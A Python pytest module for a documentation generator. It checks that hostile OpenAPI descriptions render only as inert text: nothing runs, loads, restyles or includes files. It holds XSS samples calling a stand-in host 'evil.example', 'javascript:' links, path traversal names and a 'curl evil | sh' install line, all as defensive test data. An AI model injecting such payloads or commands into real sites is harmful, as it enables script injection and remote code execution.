"""What a description says is text on every page: it runs, loads, restyles, names and includes nothing."""

import json
import re
import sys
import unicodedata
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import markdown
import pytest
from selectolax.lexbor import LexborHTMLParser

from commands import LANGUAGES, Project, pages, sections
from harmless import Harmless, shown_text, site_faults
from hostile import MARKED, PAYLOADS, PLAIN, described
from places import REPOSITORY, shared
from sdkref.config import settings_for
from sdkref.diagnostics import Diagnostics
from sdkref.markdown_extension import SdkrefExtension
from sdkref.output.link_check import check_site
from sdkref.output.markdown_pages import generated_pages
from sdkref.output.mounting import Library
from sdkref.progress import Silent
from sdkref.readers.openapi_words import METHODS
from sdkref.reading import read_sources
from sdkref.references import build_references

COMPANIONS: dict[str, dict[str, Any]] = {
    "abbr": {},
    "admonition": {},
    "attr_list": {},
    "def_list": {},
    "footnotes": {},
    "md_in_html": {},
    "tables": {},
    "toc": {"permalink": True},
    "pymdownx.b64": {},
    "pymdownx.blocks.html": {},
    "pymdownx.details": {},
    "pymdownx.emoji": {},
    "pymdownx.highlight": {},
    "pymdownx.inlinehilite": {},
    "pymdownx.keys": {},
    "pymdownx.magiclink": {},
    "pymdownx.snippets": {},
    "pymdownx.superfences": {},
    "pymdownx.tabbed": {"alternate_style": True},
    "pymdownx.tasklist": {},
}
"""Extensions of Markdown that read marks in a text as more than text."""

_RUN: list[str] = []


@pytest.fixture(scope="module", autouse=True)
def _watched() -> None:
    """Note programs that are started and connections; an audit hook stays until the process ends."""

    def note(event: str, arguments: tuple[object, ...]) -> None:
        if event in {"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "socket.connect"}:
            _RUN.append(f"{event} {arguments}")

    sys.addaudithook(note)


@pytest.fixture(autouse=True)
def _nothing_runs() -> Iterator[None]:
    _RUN.clear()
    yield
    assert _RUN == []


@pytest.fixture(scope="session")
def plain(tmp_path_factory: pytest.TempPathFactory, cache: Path) -> Path:
    """Return the site of the description that says nothing hostile."""
    project = Project(tmp_path_factory.mktemp("plain"), cache)
    return built(project, described(PLAIN))


@pytest.fixture(scope="session")
def harmless(demo: Path, plain: Path) -> Harmless:
    return Harmless(demo, plain)


def built(project: Project, description: dict[str, Any]) -> Path:
    path = project.write("openapi.json", json.dumps(description))
    ended = project.run("build", path.name)
    assert ended.code == 0, ended.err
    assert {each.name for each in project.folder.iterdir()} == {"openapi.json", "site"}
    return project.site


def skeleton(site: Path) -> list[tuple[str, ...]]:
    """Return how each page is built up: its headings' levels and its sections' tabs and labels."""
    found: list[tuple[str, ...]] = []
    for _, tree in pages(site):
        found += [(node.tag or "",) for node in tree.css("article h1, article h2")]
        for section in tree.css("section"):
            labels = [node.attributes["id"] or "" for node in section.css("p[role=heading][id]")]
            found.append(
                (
                    *(name for name in section.attributes if name.startswith("data-")),
                    *(node.attributes["data-language"] or "" for node in section.css("[data-language]")),
                    *sorted(label.rpartition(":")[2] for label in labels),
                )
            )
    return sorted(found)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<script src=//evil.example></script>",
        "<img src=x>",
        "<p onclick=alert(1)>",
        "<p style=color:red>",
        "<p class=md-overlay>",
        "<a href=javascript:alert(1)>",
        "<a href='java&#10;script:alert(1)'>",
        "<svg onload=alert(1)>",
        "<iframe srcdoc=x>",
        "<form action=//evil.example>",
        "<input name=p>",
        "<h2 class=x>",
        "<p data-sdkref=x>",
        "<base href=//evil.example>",
    ],
)
def test_the_check_sees(harmless: Harmless, html: str) -> None:
    page = f"<body><article class='md-content__inner md-typeset'>{html}</article>"
    assert harmless.faults(LexborHTMLParser(page))
    assert not harmless.faults(LexborHTMLParser(page.replace(html, "<p><code>x</code></p>")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_every_text(project: Project, plain: Path, harmless: Harmless, payload: str) -> None:
    site = built(project, described(PAYLOADS[payload]))
    assert site_faults(site, harmless) == []
    assert check_site(site) == []
    assert skeleton(site) == skeleton(plain)
    shown, expected = (set(re.findall(r"text-[a-z-]+\.", shown_text(each))) for each in (site, plain))
    assert expected - shown == set()
    assert_portable(site)


def rows(*folders: str) -> list[Any]:
    """Return the hostile descriptions of the folder beside the checkout, by `EXPECT.tsv`."""
    table = REPOSITORY.parent / "shared" / "hostile" / "EXPECT.tsv"
    if not table.is_file():
        return [None]
    lines = [line.split("\t") for line in table.read_text(encoding="utf-8").splitlines()[1:]]
    return [
        pytest.param(name, expected, id=name)
        for name, expected, *_ in lines
        if name.partition("/")[0] in folders
    ]


@pytest.mark.parametrize(("name", "expected"), rows("xss", "second", "names", "code"))
def test_a_hostile_description(project: Project, harmless: Harmless, name: str, expected: str) -> None:
    path = shared("hostile", *name.split("/"))
    ended = project.run("build", path)
    assert f"exit{ended.code}" in expected, ended.err
    assert "Traceback" not in ended.err
    assert {each.name for each in project.folder.iterdir()} <= {"site"}
    if ended.code:
        return
    assert site_faults(project.site, harmless) == []
    assert check_site(project.site) == []
    assert_portable(project.site)
    description = json.loads(path.read_text(encoding="utf-8"), parse_int=str)
    operations = [
        (f"{method.upper()} {route}", operation)
        for route, item in description["paths"].items()
        for method, operation in item.items()
        if method in METHODS
    ]
    assert sections(project.site) == Counter(key for key, _ in operations)
    models = description.get("components", {}).get("schemas", {})
    # HTML has no character for NUL.
    assert sections(project.site, "data-model") == Counter(key.replace("\0", "\ufffd") for key in models)
    payload = description["info"].get("description")
    if payload:
        twin = Project(project.folder.parent / "twin", project.cache)
        twin.folder.mkdir()
        text = path.read_text(encoding="utf-8").replace(json.dumps(payload), json.dumps(PLAIN))
        assert skeleton(project.site) == skeleton(built(twin, json.loads(text)))
    if name.startswith("second/"):
        text = shown_text(project.site)
        for word in re.findall(r"[A-Za-z]{2,}", payload):
            assert word in text, word
        assert "site_name" not in text, "a file was included"


def assert_portable(site: Path) -> None:
    """Assert that every path is plain, short, and another path on any file system."""
    names = [path.relative_to(site).as_posix() for path in site.rglob("*")]
    folded = Counter(unicodedata.normalize("NFKC", name).casefold() for name in names)
    assert [name for name, count in folded.items() if count > 1] == []
    for part in {part for name in names for part in name.split("/")}:
        assert re.fullmatch(r"[A-Za-z0-9._-]{1,200}", part), part
        assert not re.fullmatch(r"(con|prn|aux|nul|com\d|lpt\d)(\..*)?|.*\.", part.lower()), part
    assert not [path for path in site.rglob("*") if path.is_symlink()]


@pytest.mark.parametrize(("name", "fewest"), [("case", 4), ("slug", 8), ("unicode", 12), ("traversal", 11)])
def test_names_that_look_alike_have_pages_of_their_own(project: Project, name: str, fewest: int) -> None:
    assert project.run("build", shared("hostile", "names", f"{name}.json")).code == 0
    assert len(list((project.site / "reference").iterdir())) >= fewest


def test_numbers_are_exact(project: Project) -> None:
    assert project.run("build", shared("hostile", "code", "numbers.json")).code == 0
    text = shown_text(project.site)
    assert "12345678901234567890123" in text
    assert "1e400" in text
    assert not re.search(r"\b(inf|nan|infinity)\b|1\.2345678901234568e", text, re.IGNORECASE)


def test_code_of_a_description_is_shown_and_not_run(project: Project) -> None:
    assert project.run("build", shared("hostile", "code", "install-command.json")).code == 0
    text = shown_text(project.site)
    assert "curl evil | sh" in text
    assert "curl evil|sh" not in text, "an install line is never the description's"


def test_a_site_with_dangerous_companions(project: Project, harmless: Harmless) -> None:
    extensions = json.dumps([{name: options} for name, options in COMPANIONS.items()])
    project.write(
        "mkdocs.yml",
        "site_name: Mine\ntheme: {name: material, font: false}\nextra: {generator: false}\n"
        f"plugins: [search, macros, sdkref]\nmarkdown_extensions: {extensions}\n",
    )
    project.write("docs/index.md", "# Mine\n\nMacros work here: {{ 7 * 191 }}.\n")
    sources = []
    for number, payload in enumerate([PLAIN, *(PAYLOADS[name] for name in MARKED)]):
        project.write(f"{number}.json", json.dumps(described(payload)))
        sources.append({"file": f"{number}.json", "root": f"api-{number}"})
    project.write("sdkref.yml", json.dumps({"sources": sources}))
    ended = project.run("build")
    assert ended.code == 0, ended.err
    # The plugin for macros asks git about the page; nothing else may run.
    _RUN[:] = [each for each in _RUN if "('git', ['git'," not in each]
    site = project.site
    assert "1337" in (site / "index.html").read_text(encoding="utf-8"), "macros are at work"
    alike = {name: tree for name, tree in pages(site) if name.startswith("api-0/")}
    assert alike
    accepted = Harmless(site / "api-0")
    accepted.inside |= harmless.inside
    accepted.classes |= harmless.classes
    faults = [
        f"{name}: {fault}"
        for name, tree in pages(site)
        if name.startswith("api-")
        for fault in accepted.faults(tree)
    ]
    assert faults == []
    assert check_site(site) == []
    for number in range(len(sources)):
        assert skeleton(site / f"api-{number}") == skeleton(site / "api-0")
        text = shown_text(site / f"api-{number}")
        assert not re.search(r"1337|RANRAN|\.\./\.\./x\.html.*site_name|theme: \{", text)
        assert set(re.findall(r"text-[a-z-]+\.", text)) >= set(
            re.findall(r"text-[a-z-]+\.", shown_text(site / "api-0"))
        )


def test_an_engine_that_loads_no_plugin(project: Project, harmless: Harmless, tmp_path: Path) -> None:
    files = [
        project.write(f"{number}.json", json.dumps(described(payload)))
        for number, payload in enumerate([PLAIN, *(PAYLOADS[name] for name in MARKED)])
    ]
    skeletons = []
    for file in files:
        read = read_sources(settings_for([file]), Diagnostics())
        library = Library(build_references(read, Silent(), cache=tmp_path / "fragments"))
        site = tmp_path / file.stem
        site.mkdir()
        for number, (_, _, _, text) in enumerate(generated_pages(library)):
            html = markdown.markdown(
                text.split("---\n", 2)[2],
                extensions=[*COMPANIONS, SdkrefExtension(library, use_directory_urls=False)],
                extension_configs=COMPANIONS,
            )
            page = f"<body><article class='md-content__inner md-typeset'>{html}</article>"
            (site / f"{number}.html").write_text(page, encoding="utf-8")
            assert harmless.faults(LexborHTMLParser(page)) == [], file.stem
        skeletons.append(skeleton(site))
        panels = [node for _, tree in pages(site) for node in tree.css("[data-language]")]
        assert len(panels) % len(LANGUAGES) == 0
    assert all(each == skeletons[0] for each in skeletons)
